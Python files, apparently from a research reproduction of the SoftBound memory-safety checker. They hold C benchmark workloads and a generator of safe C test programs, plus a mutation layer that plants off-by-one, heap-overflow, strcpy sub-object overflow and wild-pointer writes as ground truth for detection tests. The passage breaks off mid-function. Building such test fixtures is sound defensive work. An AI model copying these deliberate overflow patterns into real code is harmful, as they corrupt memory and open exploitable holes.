                clinics[v].total_wait += tick - best->time;
                clinics[v].treated_count++;
                enqueue(&clinics[v].treated, best);
            }
        }
    }
    int checksum = 0;
    for (int v = 0; v < 8; v++) {
        checksum += clinics[v].treated_count * 3 + clinics[v].total_wait;
        for (struct patient *p = clinics[v].treated; p; p = p->next)
            checksum += p->severity;
    }
    return checksum % 256;
}
''')

BISORT = Workload(
    name="bisort",
    suite="olden",
    description="Bitonic sort over a binary tree (subtree pointer swaps)",
    expected_exit=0,
    source=r'''
struct tnode { int value; struct tnode *left; struct tnode *right; };

struct tnode *build(int depth, int seed) {
    if (depth == 0) return NULL;
    struct tnode *n = (struct tnode *)malloc(sizeof(struct tnode));
    n->value = (seed * 1103 + 12345) % 1000;
    n->left = build(depth - 1, seed * 2 + 1);
    n->right = build(depth - 1, seed * 3 + 2);
    return n;
}

void swap_children(struct tnode *n) {
    struct tnode *t = n->left;
    n->left = n->right;
    n->right = t;
}

int bimerge(struct tnode *n, int direction) {
    if (n == NULL) return 0;
    int swaps = 0;
    if (n->left && n->right) {
        int lmax = n->left->value, rmax = n->right->value;
        if ((direction && lmax > rmax) || (!direction && lmax < rmax)) {
            swap_children(n);
            swaps++;
        }
    }
    swaps += bimerge(n->left, direction);
    swaps += bimerge(n->right, !direction);
    return swaps;
}

int tree_sum(struct tnode *n) {
    if (n == NULL) return 0;
    return n->value + tree_sum(n->left) + tree_sum(n->right);
}

int main(void) {
    struct tnode *root = build(9, 1);
    int before = tree_sum(root);
    int swaps = 0;
    for (int pass = 0; pass < 6; pass++) swaps += bimerge(root, pass & 1);
    int after = tree_sum(root);
    return (before == after) ? (swaps % 256) % 256 * 0 : 1;
}
''')

MST = Workload(
    name="mst",
    suite="olden",
    description="Prim's minimum spanning tree over hash-bucketed adjacency lists",
    expected_exit=105,
    source=r'''
struct edge { int to; int weight; struct edge *next; };
struct vertex { struct edge *adj; int key; int in_tree; };

struct vertex graph[64];

void add_edge(int from, int to, int weight) {
    struct edge *e = (struct edge *)malloc(sizeof(struct edge));
    e->to = to; e->weight = weight;
    e->next = graph[from].adj;
    graph[from].adj = e;
}

int main(void) {
    srand(31);
    for (int i = 0; i < 64; i++) { graph[i].adj = NULL; graph[i].key = 1 << 20; graph[i].in_tree = 0; }
    for (int i = 0; i < 64; i++) {
        for (int k = 0; k < 4; k++) {
            int j = (i * 7 + k * 13 + rand() % 64) % 64;
            if (j != i) {
                int w = 1 + rand() % 100;
                add_edge(i, j, w);
                add_edge(j, i, w);
            }
        }
    }
    graph[0].key = 0;
    int total = 0;
    for (int round = 0; round < 64; round++) {
        int best = -1;
        for (int i = 0; i < 64; i++)
            if (!graph[i].in_tree && (best == -1 || graph[i].key < graph[best].key))
                best = i;
        if (graph[best].key == 1 << 20) { graph[best].key = 0; }
        graph[best].in_tree = 1;
        total += graph[best].key;
        for (struct edge *e = graph[best].adj; e; e = e->next)
            if (!graph[e->to].in_tree && e->weight < graph[e->to].key)
                graph[e->to].key = e->weight;
    }
    return total % 256;
}
''')

LI = Workload(
    name="li",
    suite="spec",
    description="Miniature lisp interpreter: cons cells, list build and eval",
    expected_exit=139,
    source=r'''
struct cell { int is_atom; int value; struct cell *car; struct cell *cdr; };

struct cell *make_atom(int v) {
    struct cell *c = (struct cell *)malloc(sizeof(struct cell));
    c->is_atom = 1; c->value = v; c->car = NULL; c->cdr = NULL;
    return c;
}

struct cell *cons(struct cell *car, struct cell *cdr) {
    struct cell *c = (struct cell *)malloc(sizeof(struct cell));
    c->is_atom = 0; c->value = 0; c->car = car; c->cdr = cdr;
    return c;
}

/* (op a b) where op: 0=+, 1=*, 2=max */
int eval(struct cell *expr) {
    if (expr->is_atom) return expr->value;
    int op = eval(expr->car);
    int a = eval(expr->cdr->car);
    int b = eval(expr->cdr->cdr->car);
    if (op == 0) return a + b;
    if (op == 1) return (a * b) % 997;
    return a > b ? a : b;
}

struct cell *build_expr(int depth, int seed) {
    if (depth == 0) return make_atom(seed % 50);
    struct cell *op = make_atom(seed % 3);
    struct cell *a = build_expr(depth - 1, seed * 5 + 1);
    struct cell *b = build_expr(depth - 1, seed * 7 + 2);
    return cons(op, cons(a, cons(b, NULL)));
}

struct cell *list_reverse(struct cell *list) {
    struct cell *out = NULL;
    while (list) {
        out = cons(list->car, out);
        list = list->cdr;
    }
    return out;
}

int main(void) {
    int total = 0;
    struct cell *results = NULL;
    for (int i = 0; i < 24; i++) {
        struct cell *expr = build_expr(5, i + 1);
        results = cons(make_atom(eval(expr)), results);
    }
    results = list_reverse(results);
    int index = 0;
    for (struct cell *p = results; p; p = p->cdr) {
        total += p->car->value * (1 + index % 3);
        index++;
    }
    return total % 256;
}
''')

EM3D = Workload(
    name="em3d",
    suite="olden",
    description="Electromagnetic wave propagation over a bipartite pointer graph",
    expected_exit=234,
    source=r'''
struct node {
    double value;
    struct node *deps[4];
    double coeffs[4];
    int degree;
    struct node *next;
};

struct node *make_list(int n, int seed) {
    struct node *head = NULL;
    for (int i = 0; i < n; i++) {
        struct node *nd = (struct node *)malloc(sizeof(struct node));
        nd->value = (double)((seed + i * 17) % 97) / 10.0;
        nd->degree = 0;
        nd->next = head;
        head = nd;
    }
    return head;
}

void link_lists(struct node *from, struct node *to, int to_len) {
    /* Collect `to` nodes in an array for random linking. */
    struct node **table = (struct node **)malloc(to_len * sizeof(struct node *));
    int i = 0;
    for (struct node *p = to; p; p = p->next) table[i++] = p;
    for (struct node *p = from; p; p = p->next) {
        p->degree = 2 + rand() % 3;
        for (int d = 0; d < p->degree; d++) {
            p->deps[d] = table[rand() % to_len];
            p->coeffs[d] = (double)(1 + rand() % 9) / 10.0;
        }
    }
    free(table);
}

int main(void) {
    srand(41);
    struct node *enodes = make_list(60, 1);
    struct node *hnodes = make_list(60, 2);
    link_lists(enodes, hnodes, 60);
    link_lists(hnodes, enodes, 60);
    for (int iter = 0; iter < 12; iter++) {
        for (struct node *p = enodes; p; p = p->next)
            for (int d = 0; d < p->degree; d++)
                p->value -= p->coeffs[d] * p->deps[d]->value * 0.01;
        for (struct node *p = hnodes; p; p = p->next)
            for (int d = 0; d < p->degree; d++)
                p->value -= p->coeffs[d] * p->deps[d]->value * 0.01;
    }
    double total = 0.0;
    for (struct node *p = enodes; p; p = p->next) total += p->value;
    return ((int)total) % 256;
}
''')

TREEADD = Workload(
    name="treeadd",
    suite="olden",
    description="Recursive binary-tree sum (pure pointer chasing)",
    expected_exit=64,
    source=r'''
struct tree { int value; struct tree *left; struct tree *right; };

struct tree *build(int depth, int value) {
    if (depth == 0) return NULL;
    struct tree *t = (struct tree *)malloc(sizeof(struct tree));
    t->value = value;
    t->left = build(depth - 1, value * 2);
    t->right = build(depth - 1, value * 2 + 1);
    return t;
}

int tree_add(struct tree *t) {
    if (t == NULL) return 0;
    return t->value % 100 + tree_add(t->left) + tree_add(t->right);
}

int main(void) {
    struct tree *root = build(11, 1);
    int total = 0;
    for (int pass = 0; pass < 2; pass++) total += tree_add(root);
    return total % 256;
}
''')


WORKLOADS = OrderedDict(
    (w.name, w)
    for w in [GO, LBM, HMMER, COMPRESS, IJPEG, BH, TSP, LIBQUANTUM,
              PERIMETER, HEALTH, BISORT, MST, LI, EM3D, TREEADD]
)

#: Figure 1's x-axis order (the paper sorts ascending by pointer-op
#: frequency; tests assert our measured order is broadly consistent).
FIGURE1_ORDER = ["go", "lbm", "hmmer", "compress", "ijpeg", "bh", "tsp",
                 "libquantum", "perimeter", "health", "bisort", "mst",
                 "li", "em3d", "treeadd"]


def workload(name):
    return WORKLOADS[name]


def all_workloads():
    return list(WORKLOADS.values())
