"""Random *memory-safe* C program generation for differential testing.

Unlike :mod:`repro.formal.genprog` (which generates possibly-unsafe
programs in the Section 4 fragment to exercise the abort semantics),
this generator produces full-pipeline C sources that are **safe by
construction**: every array index is reduced modulo the array length,
every pointer stays inside its object, every string fits its buffer.

Safe programs are the raw material for the reproduction's strongest
property tests (``tests/softbound/test_differential.py``):

* SoftBound must be *transparent* on them — same exit code, same
  output, zero violations, in every checking mode and metadata scheme
  (the paper's "no false positives" claim, Sections 6.2 and 6.4);
* the optimizer must preserve their semantics;
* full and store-only mode must agree with each other.

Every program accumulates its observable behaviour into a single
checksum returned from ``main`` (masked to 0..199 so it never collides
with trap-reporting exit conventions), so a single integer comparison
witnesses semantic equality.
"""

import random

_CHECK_MASK = 200

_BINOPS = ["+", "-", "*", "^", "&", "|"]
_CMPOPS = ["<", "<=", ">", ">=", "==", "!="]


class _Scope:
    """Tracks what names are live so expressions only reference them."""

    def __init__(self):
        self.ints = []        # plain int variables
        self.arrays = []      # (name, length) int arrays
        self.pointers = []    # (name, length) int* known to span `length` ints
        self.structs = []     # names of `struct pair` locals


class RandomProgram:
    """One generated program: C ``source`` plus generation metadata."""

    def __init__(self, source, seed, statement_count):
        self.source = source
        self.seed = seed
        self.statement_count = statement_count

    def __repr__(self):
        return f"RandomProgram(seed={self.seed}, statements={self.statement_count})"


def generate(seed, max_statements=14):
    """Generate a safe program from ``seed``.  Deterministic."""
    return _Builder(random.Random(seed), seed, max_statements).build()


class _Builder:
    def __init__(self, rng, seed, max_statements):
        self.rng = rng
        self.seed = seed
        self.max_statements = max_statements
        self.lines = []
        self.helpers = []
        self.globals_ = []
        self.scope = _Scope()
        self.counter = 0
        self.statements = 0

    # -- small utilities -----------------------------------------------------

    def _name(self, prefix):
        self.counter += 1
        return f"{prefix}{self.counter}"

    def _emit(self, text, indent=1):
        self.lines.append("    " * indent + text)

    def _int_atom(self):
        """An int-valued expression over live names (always defined)."""
        rng = self.rng
        choices = [str(rng.randint(0, 99))]
        if self.scope.ints:
            choices.append(rng.choice(self.scope.ints))
        if self.scope.arrays:
            name, length = rng.choice(self.scope.arrays)
            choices.append(f"{name}[{rng.randrange(length)}]")
        if self.scope.structs:
            s = rng.choice(self.scope.structs)
            choices.append(rng.choice([f"{s}.a", f"{s}.tail[{rng.randrange(4)}]"]))
        return rng.choice(choices)

    def _int_expr(self, depth=2):
        rng = self.rng
        if depth <= 0 or rng.random() < 0.4:
            return self._int_atom()
        op = rng.choice(_BINOPS)
        return f"({self._int_expr(depth - 1)} {op} {self._int_expr(depth - 1)})"

    def _index_expr(self, length):
        """An always-in-bounds index: either constant or masked runtime."""
        rng = self.rng
        if rng.random() < 0.5:
            return str(rng.randrange(length))
        # `(unsigned)` make the modulo result non-negative.
        return f"((unsigned){self._int_expr(1)} % {length}u)"

    # -- statement generators ---------------------------------------------------

    def _stmt_declare_int(self):
        name = self._name("v")
        self._emit(f"int {name} = {self._int_expr()};")
        self.scope.ints.append(name)

    def _stmt_declare_array(self):
        name = self._name("arr")
        length = self.rng.randint(2, 12)
        self._emit(f"int {name}[{length}];")
        self._emit(f"for (int i = 0; i < {length}; i++) "
                   f"{name}[i] = i * {self.rng.randint(1, 9)};")
        self.scope.arrays.append((name, length))

    def _stmt_declare_struct(self):
        name = self._name("s")
        self._emit(f"struct pair {name};")
        self._emit(f"{name}.a = {self._int_expr(1)};")
        self._emit(f"{name}.b = {self._int_expr(1)};")
        self._emit(f"for (int i = 0; i < 4; i++) {name}.tail[i] = i;")
        self.scope.structs.append(name)

    def _stmt_malloc(self):
        name = self._name("hp")
        length = self.rng.randint(1, 10)
        self._emit(f"int *{name} = (int *)malloc({length} * sizeof(int));")
        self._emit(f"for (int i = 0; i < {length}; i++) "
                   f"{name}[i] = {self.rng.randint(0, 50)} + i;")
        self.scope.pointers.append((name, length))

    def _stmt_point_into_array(self):
        if not self.scope.arrays:
            return self._stmt_declare_array()
        array, length = self.rng.choice(self.scope.arrays)
        offset = self.rng.randrange(length)
        name = self._name("p")
        self._emit(f"int *{name} = {array} + {offset};")
        self.scope.pointers.append((name, length - offset))

    def _stmt_write_through_pointer(self):
        if not self.scope.pointers:
            return self._stmt_malloc()
        name, length = self.rng.choice(self.scope.pointers)
        self._emit(f"{name}[{self._index_expr(length)}] = {self._int_expr(1)};")

    def _stmt_array_update(self):
        if not self.scope.arrays:
            return self._stmt_declare_array()
        name, length = self.rng.choice(self.scope.arrays)
        index = self._index_expr(length)
        self._emit(f"{name}[{index}] = {name}[{index}] + {self._int_expr(1)};")

    def _stmt_accumulate(self):
        self._emit(f"check = (check * 31 + ({self._int_expr()})) & 0xffff;")

    def _stmt_loop_sum(self):
        source = None
        if self.scope.arrays and self.rng.random() < 0.6:
            source = self.rng.choice(self.scope.arrays)
        elif self.scope.pointers:
            source = self.rng.choice(self.scope.pointers)
        if source is None:
            return self._stmt_declare_array()
        name, length = source
        self._emit(f"for (int i = 0; i < {length}; i++) check = "
                   f"(check + {name}[i]) & 0xffff;")

    def _stmt_branch(self):
        cond = (f"({self._int_expr(1)} {self.rng.choice(_CMPOPS)} "
                f"{self._int_expr(1)})")
        self._emit(f"if {cond} check = (check + 7) & 0xffff; "
                   f"else check = (check ^ 13) & 0xffff;")

    def _stmt_string(self):
        name = self._name("buf")
        text = "".join(self.rng.choice("abcdefgh") for _ in range(self.rng.randint(1, 10)))
        self._emit(f'char {name}[{len(text) + 1 + self.rng.randint(0, 6)}];')
        self._emit(f'strcpy({name}, "{text}");')
        self._emit(f"check = (check + (int)strlen({name}) + {name}[0]) & 0xffff;")

    def _stmt_helper_call(self):
        index = len(self.helpers)
        if index == 0 or (index < 2 and self.rng.random() < 0.5):
            # Synthesize a helper taking (int *, int length) and folding it.
            fold = self.rng.choice(["t += p[i]", "t ^= p[i] + i", "t = t * 3 + p[i]"])
            name = f"fold{index}"
            self.helpers.append(
                f"int {name}(int *p, int n) {{\n"
                f"    int t = 0;\n"
                f"    for (int i = 0; i < n; i++) {fold};\n"
                f"    return t & 0xffff;\n"
                f"}}")
        if not self.scope.pointers:
            if not self.scope.arrays:
                return self._stmt_declare_array()
            array, length = self.rng.choice(self.scope.arrays)
            self.scope.pointers.append((array, length))
        helper = f"fold{self.rng.randrange(len(self.helpers))}"
        pointer, length = self.rng.choice(self.scope.pointers)
        self._emit(f"check = (check + {helper}({pointer}, {length})) & 0xffff;")

    def _stmt_subobject(self):
        if not self.scope.structs:
            return self._stmt_declare_struct()
        s = self.rng.choice(self.scope.structs)
        name = self._name("fp")
        self._emit(f"int *{name} = {s}.tail;")
        self.scope.pointers.append((name, 4))
        self._emit(f"{name}[{self.rng.randrange(4)}] = {self._int_expr(1)};")

    def _stmt_switch(self):
        selector = self._int_expr(1)
        arms = self.rng.randint(2, 4)
        self._emit(f"switch (({selector}) & {arms - 1}) {{")
        for arm in range(arms):
            self._emit(f"case {arm}: check = (check + {self.rng.randint(1, 99)})"
                       f" & 0xffff; break;", indent=2)
        self._emit(f"default: check = (check ^ {self.rng.randint(1, 99)})"
                   f" & 0xffff;", indent=2)
        self._emit("}")

    def _stmt_do_while(self):
        name = self._name("dw")
        limit = self.rng.randint(1, 6)
        self._emit(f"int {name} = 0;")
        self._emit(f"do {{ check = (check + {name}) & 0xffff; {name}++; }} "
                   f"while ({name} < {limit});")
        self.scope.ints.append(name)

    def _stmt_print(self):
        self._emit(f'printf("%d\\n", check);')

    # -- assembly ------------------------------------------------------------------

    def build(self):
        rng = self.rng
        generators = [
            (self._stmt_declare_int, 2),
            (self._stmt_declare_array, 2),
            (self._stmt_declare_struct, 1),
            (self._stmt_malloc, 2),
            (self._stmt_point_into_array, 1),
            (self._stmt_write_through_pointer, 2),
            (self._stmt_array_update, 2),
            (self._stmt_accumulate, 3),
            (self._stmt_loop_sum, 2),
            (self._stmt_branch, 1),
            (self._stmt_string, 1),
            (self._stmt_helper_call, 1),
            (self._stmt_subobject, 1),
            (self._stmt_switch, 1),
            (self._stmt_do_while, 1),
            (self._stmt_print, 1),
        ]
        population = [g for g, w in generators for _ in range(w)]
        count = rng.randint(3, self.max_statements)
        for _ in range(count):
            rng.choice(population)()
            self.statements += 1
        # Fold every live value into the checksum so differences anywhere
        # in the program state become observable.
        for name in self.scope.ints:
            self._emit(f"check = (check + {name}) & 0xffff;")
        for name, length in self.scope.arrays:
            self._emit(f"check = (check + {name}[{length - 1}]) & 0xffff;")
        for name, length in self.scope.pointers:
            self._emit(f"check = (check + {name}[0] + {name}[{length - 1}]) & 0xffff;")
        for name in self.scope.structs:
            self._emit(f"check = (check + {name}.a + {name}.b + {name}.tail[3]) & 0xffff;")

        body = "\n".join(self.lines)
        helpers = "\n\n".join(self.helpers)
        source = (
            "struct pair { int a; int b; int tail[4]; };\n\n"
            + (helpers + "\n\n" if helpers else "")
            + "int main(void) {\n"
            + "    int check = 1;\n"
            + body + "\n"
            + f"    return check % {_CHECK_MASK};\n"
            + "}\n"
        )
        return RandomProgram(source, self.seed, self.statements)
