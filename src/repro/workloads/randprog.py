"""Random *memory-safe* C program generation for differential testing.

Unlike :mod:`repro.formal.genprog` (which generates possibly-unsafe
programs in the Section 4 fragment to exercise the abort semantics),
this generator produces full-pipeline C sources that are **safe by
construction**: every array index is reduced modulo the array length,
every pointer stays inside its object, every string fits its buffer.

Safe programs are the raw material for the reproduction's strongest
property tests (``tests/softbound/test_differential.py``):

* SoftBound must be *transparent* on them — same exit code, same
  output, zero violations, in every checking mode and metadata scheme
  (the paper's "no false positives" claim, Sections 6.2 and 6.4);
* the optimizer must preserve their semantics;
* full and store-only mode must agree with each other.

Every program accumulates its observable behaviour into a single
checksum returned from ``main`` (masked to 0..199 so it never collides
with trap-reporting exit conventions), so a single integer comparison
witnesses semantic equality.

Attack-seeded mutation
----------------------

:func:`generate_mutated` takes a clean program and injects exactly one
*defect* — spatial (off-by-one index, sub-object overflow, wild
pointer, heap off-by-one) or temporal (use-after-free, double free,
dangling stack pointer) — recording the expected violation class so a
differential oracle knows detection ground truth.  Each defect template
mirrors the proven shapes of the policy-conformance representatives
(``tests/policy/test_conformance.py``): the faulting access is a write
that leaves its object (or, for sub-object overflows, its field),
injected at the end of the statement list so it is the last allocation
in ``main``'s frame — one-past lands in frame padding or the saved-FP
slot, never inside a neighbouring live object, which keeps the
object-granularity baselines' detection contract exact.  Defect-local
names carry a ``fz`` prefix and are never folded into the checksum, so
the surviving clean prefix stays transparent under every checker.
"""

import random
from collections import OrderedDict

_CHECK_MASK = 200

_BINOPS = ["+", "-", "*", "^", "&", "|"]
_CMPOPS = ["<", "<=", ">", ">=", "==", "!="]


class _Scope:
    """Tracks what names are live so expressions only reference them."""

    def __init__(self):
        self.ints = []        # plain int variables
        self.arrays = []      # (name, length) int arrays
        self.pointers = []    # (name, length) int* known to span `length` ints
        self.structs = []     # names of `struct pair` locals


class RandomProgram:
    """One generated program: C ``source`` plus generation metadata.

    ``helpers``/``body_lines``/``fold_lines`` are the assembly parts the
    mutation layer splices defects into; ``source`` is always their
    canonical assembly (byte-identical to the historical format).
    """

    def __init__(self, source, seed, statement_count, helpers=(),
                 body_lines=(), fold_lines=()):
        self.source = source
        self.seed = seed
        self.statement_count = statement_count
        self.helpers = tuple(helpers)
        self.body_lines = tuple(body_lines)
        self.fold_lines = tuple(fold_lines)

    def __repr__(self):
        return f"RandomProgram(seed={self.seed}, statements={self.statement_count})"


class MutatedProgram(RandomProgram):
    """A clean program with exactly one injected memory-safety defect.

    ``expected_class`` is the violation class (the vocabulary of
    ``CheckerPolicy.detects``) the defect is guaranteed to exercise —
    the detection ground truth a differential oracle asserts against.
    """

    def __init__(self, source, seed, statement_count, defect,
                 expected_class, description, base_source):
        super().__init__(source, seed, statement_count)
        self.defect = defect
        self.expected_class = expected_class
        self.description = description
        self.base_source = base_source

    def __repr__(self):
        return (f"MutatedProgram(seed={self.seed}, defect={self.defect!r}, "
                f"expects={self.expected_class!r})")


def generate(seed, max_statements=14):
    """Generate a safe program from ``seed``.  Deterministic."""
    return _Builder(random.Random(seed), seed, max_statements).build()


def _assemble(helpers, lines, extra_decls=()):
    """Canonical program assembly shared by clean and mutated builds."""
    helper_text = "\n\n".join(tuple(helpers) + tuple(extra_decls))
    return (
        "struct pair { int a; int b; int tail[4]; };\n\n"
        + (helper_text + "\n\n" if helper_text else "")
        + "int main(void) {\n"
        + "    int check = 1;\n"
        + "\n".join(lines) + "\n"
        + f"    return check % {_CHECK_MASK};\n"
        + "}\n"
    )


class _Builder:
    def __init__(self, rng, seed, max_statements):
        self.rng = rng
        self.seed = seed
        self.max_statements = max_statements
        self.lines = []
        self.helpers = []
        self.globals_ = []
        self.scope = _Scope()
        self.counter = 0
        self.statements = 0

    # -- small utilities -----------------------------------------------------

    def _name(self, prefix):
        self.counter += 1
        return f"{prefix}{self.counter}"

    def _emit(self, text, indent=1):
        self.lines.append("    " * indent + text)

    def _int_atom(self):
        """An int-valued expression over live names (always defined)."""
        rng = self.rng
        choices = [str(rng.randint(0, 99))]
        if self.scope.ints:
            choices.append(rng.choice(self.scope.ints))
        if self.scope.arrays:
            name, length = rng.choice(self.scope.arrays)
            choices.append(f"{name}[{rng.randrange(length)}]")
        if self.scope.structs:
            s = rng.choice(self.scope.structs)
            choices.append(rng.choice([f"{s}.a", f"{s}.tail[{rng.randrange(4)}]"]))
        return rng.choice(choices)

    def _int_expr(self, depth=2):
        rng = self.rng
        if depth <= 0 or rng.random() < 0.4:
            return self._int_atom()
        op = rng.choice(_BINOPS)
        return f"({self._int_expr(depth - 1)} {op} {self._int_expr(depth - 1)})"

    def _index_expr(self, length):
        """An always-in-bounds index: either constant or masked runtime."""
        rng = self.rng
        if rng.random() < 0.5:
            return str(rng.randrange(length))
        # `(unsigned)` make the modulo result non-negative.
        return f"((unsigned){self._int_expr(1)} % {length}u)"

    # -- statement generators ---------------------------------------------------

    def _stmt_declare_int(self):
        name = self._name("v")
        self._emit(f"int {name} = {self._int_expr()};")
        self.scope.ints.append(name)

    def _stmt_declare_array(self):
        name = self._name("arr")
        length = self.rng.randint(2, 12)
        self._emit(f"int {name}[{length}];")
        self._emit(f"for (int i = 0; i < {length}; i++) "
                   f"{name}[i] = i * {self.rng.randint(1, 9)};")
        self.scope.arrays.append((name, length))

    def _stmt_declare_struct(self):
        name = self._name("s")
        self._emit(f"struct pair {name};")
        self._emit(f"{name}.a = {self._int_expr(1)};")
        self._emit(f"{name}.b = {self._int_expr(1)};")
        self._emit(f"for (int i = 0; i < 4; i++) {name}.tail[i] = i;")
        self.scope.structs.append(name)

    def _stmt_malloc(self):
        name = self._name("hp")
        length = self.rng.randint(1, 10)
        self._emit(f"int *{name} = (int *)malloc({length} * sizeof(int));")
        self._emit(f"for (int i = 0; i < {length}; i++) "
                   f"{name}[i] = {self.rng.randint(0, 50)} + i;")
        self.scope.pointers.append((name, length))

    def _stmt_point_into_array(self):
        if not self.scope.arrays:
            return self._stmt_declare_array()
        array, length = self.rng.choice(self.scope.arrays)
        offset = self.rng.randrange(length)
        name = self._name("p")
        self._emit(f"int *{name} = {array} + {offset};")
        self.scope.pointers.append((name, length - offset))

    def _stmt_write_through_pointer(self):
        if not self.scope.pointers:
            return self._stmt_malloc()
        name, length = self.rng.choice(self.scope.pointers)
        self._emit(f"{name}[{self._index_expr(length)}] = {self._int_expr(1)};")

    def _stmt_array_update(self):
        if not self.scope.arrays:
            return self._stmt_declare_array()
        name, length = self.rng.choice(self.scope.arrays)
        index = self._index_expr(length)
        self._emit(f"{name}[{index}] = {name}[{index}] + {self._int_expr(1)};")

    def _stmt_accumulate(self):
        self._emit(f"check = (check * 31 + ({self._int_expr()})) & 0xffff;")

    def _stmt_loop_sum(self):
        source = None
        if self.scope.arrays and self.rng.random() < 0.6:
            source = self.rng.choice(self.scope.arrays)
        elif self.scope.pointers:
            source = self.rng.choice(self.scope.pointers)
        if source is None:
            return self._stmt_declare_array()
        name, length = source
        self._emit(f"for (int i = 0; i < {length}; i++) check = "
                   f"(check + {name}[i]) & 0xffff;")

    def _stmt_branch(self):
        cond = (f"({self._int_expr(1)} {self.rng.choice(_CMPOPS)} "
                f"{self._int_expr(1)})")
        self._emit(f"if {cond} check = (check + 7) & 0xffff; "
                   f"else check = (check ^ 13) & 0xffff;")

    def _stmt_string(self):
        name = self._name("buf")
        text = "".join(self.rng.choice("abcdefgh") for _ in range(self.rng.randint(1, 10)))
        self._emit(f'char {name}[{len(text) + 1 + self.rng.randint(0, 6)}];')
        self._emit(f'strcpy({name}, "{text}");')
        self._emit(f"check = (check + (int)strlen({name}) + {name}[0]) & 0xffff;")

    def _stmt_helper_call(self):
        index = len(self.helpers)
        if index == 0 or (index < 2 and self.rng.random() < 0.5):
            # Synthesize a helper taking (int *, int length) and folding it.
            fold = self.rng.choice(["t += p[i]", "t ^= p[i] + i", "t = t * 3 + p[i]"])
            name = f"fold{index}"
            self.helpers.append(
                f"int {name}(int *p, int n) {{\n"
                f"    int t = 0;\n"
                f"    for (int i = 0; i < n; i++) {fold};\n"
                f"    return t & 0xffff;\n"
                f"}}")
        if not self.scope.pointers:
            if not self.scope.arrays:
                return self._stmt_declare_array()
            array, length = self.rng.choice(self.scope.arrays)
            self.scope.pointers.append((array, length))
        helper = f"fold{self.rng.randrange(len(self.helpers))}"
        pointer, length = self.rng.choice(self.scope.pointers)
        self._emit(f"check = (check + {helper}({pointer}, {length})) & 0xffff;")

    def _stmt_subobject(self):
        if not self.scope.structs:
            return self._stmt_declare_struct()
        s = self.rng.choice(self.scope.structs)
        name = self._name("fp")
        self._emit(f"int *{name} = {s}.tail;")
        self.scope.pointers.append((name, 4))
        self._emit(f"{name}[{self.rng.randrange(4)}] = {self._int_expr(1)};")

    def _stmt_switch(self):
        selector = self._int_expr(1)
        arms = self.rng.randint(2, 4)
        self._emit(f"switch (({selector}) & {arms - 1}) {{")
        for arm in range(arms):
            self._emit(f"case {arm}: check = (check + {self.rng.randint(1, 99)})"
                       f" & 0xffff; break;", indent=2)
        self._emit(f"default: check = (check ^ {self.rng.randint(1, 99)})"
                   f" & 0xffff;", indent=2)
        self._emit("}")

    def _stmt_do_while(self):
        name = self._name("dw")
        limit = self.rng.randint(1, 6)
        self._emit(f"int {name} = 0;")
        self._emit(f"do {{ check = (check + {name}) & 0xffff; {name}++; }} "
                   f"while ({name} < {limit});")
        self.scope.ints.append(name)

    def _stmt_print(self):
        self._emit(f'printf("%d\\n", check);')

    # -- assembly ------------------------------------------------------------------

    def build(self):
        rng = self.rng
        generators = [
            (self._stmt_declare_int, 2),
            (self._stmt_declare_array, 2),
            (self._stmt_declare_struct, 1),
            (self._stmt_malloc, 2),
            (self._stmt_point_into_array, 1),
            (self._stmt_write_through_pointer, 2),
            (self._stmt_array_update, 2),
            (self._stmt_accumulate, 3),
            (self._stmt_loop_sum, 2),
            (self._stmt_branch, 1),
            (self._stmt_string, 1),
            (self._stmt_helper_call, 1),
            (self._stmt_subobject, 1),
            (self._stmt_switch, 1),
            (self._stmt_do_while, 1),
            (self._stmt_print, 1),
        ]
        population = [g for g, w in generators for _ in range(w)]
        count = rng.randint(3, self.max_statements)
        for _ in range(count):
            rng.choice(population)()
            self.statements += 1
        body_end = len(self.lines)
        # Fold every live value into the checksum so differences anywhere
        # in the program state become observable.
        for name in self.scope.ints:
            self._emit(f"check = (check + {name}) & 0xffff;")
        for name, length in self.scope.arrays:
            self._emit(f"check = (check + {name}[{length - 1}]) & 0xffff;")
        for name, length in self.scope.pointers:
            self._emit(f"check = (check + {name}[0] + {name}[{length - 1}]) & 0xffff;")
        for name in self.scope.structs:
            self._emit(f"check = (check + {name}.a + {name}.b + {name}.tail[3]) & 0xffff;")

        source = _assemble(self.helpers, self.lines)
        return RandomProgram(source, self.seed, self.statements,
                             helpers=self.helpers,
                             body_lines=self.lines[:body_end],
                             fold_lines=self.lines[body_end:])


# -- attack-seeded mutation --------------------------------------------------
#
# Each defect builder returns (lines, extra_decls, expected_class,
# description).  The lines are injected between the clean statements and
# the checksum folds; extra_decls (struct types, leaking helpers) join
# the helper section.  Defect locals are declared *last* in main, so an
# off-the-end write lands in frame padding or the saved-FP slot — never
# inside another live object — keeping the object-granularity baselines'
# detection behaviour identical to the conformance representatives.

_I = "    "  # one indent level inside main


def _defect_off_by_one_index(rng):
    """Spatial: classic ``<=``-style one-past write on a stack array."""
    length = rng.randint(2, 5)
    lines = [f"{_I}int fzarr[{length}];"]
    lines += [f"{_I}fzarr[{i}] = {rng.randint(0, 40)};" for i in range(length)]
    lines.append(f"{_I}fzarr[{length}] = {rng.randint(1, 99)};")
    return (lines, (), "stack_overflow",
            f"off-by-one write at index {length} of a {length}-int "
            f"stack array")


def _defect_heap_off_by_one(rng):
    """Spatial: loop walking one element past a heap allocation."""
    length = rng.randint(2, 6)
    lines = [
        f"{_I}int *fzh = (int *)malloc({length} * sizeof(int));",
        f"{_I}for (int fzi = 0; fzi <= {length}; fzi++) "
        f"fzh[fzi] = fzi + {rng.randint(0, 30)};",
    ]
    return (lines, (), "heap_overflow",
            f"<= loop writing one past a {length}-int heap block")


def _defect_subobject_overflow(rng):
    """Spatial: strcpy overrunning a struct field but staying inside
    the object — visible only to sub-object-accurate bounds."""
    text = "".join(rng.choice("abcdefgh") for _ in range(rng.randint(9, 11)))
    decl = "struct fz_rec { char str[8]; long tail; };\nstruct fz_rec fz_node;"
    lines = [
        f"{_I}fz_node.tail = {rng.randint(1, 50)};",
        f"{_I}char *fzp = fz_node.str;",
        f'{_I}strcpy(fzp, "{text}");',
    ]
    return (lines, (decl,), "subobject_overflow",
            f"{len(text) + 1}-byte strcpy into the 8-byte str field of "
            f"a global struct (stays inside the object)")


def _defect_wild_pointer(rng):
    """Spatial: pointer marched far outside every mapped segment."""
    stride = (1 << 18) + rng.randint(1, 512)
    lines = [
        f"{_I}int fzw0[2];",
        f"{_I}fzw0[0] = {rng.randint(0, 9)};",
        f"{_I}fzw0[1] = {rng.randint(0, 9)};",
        f"{_I}int *fzw = fzw0 + 2 + {stride};",
        f"{_I}fzw[0] = {rng.randint(1, 99)};",
    ]
    return (lines, (), "stack_overflow",
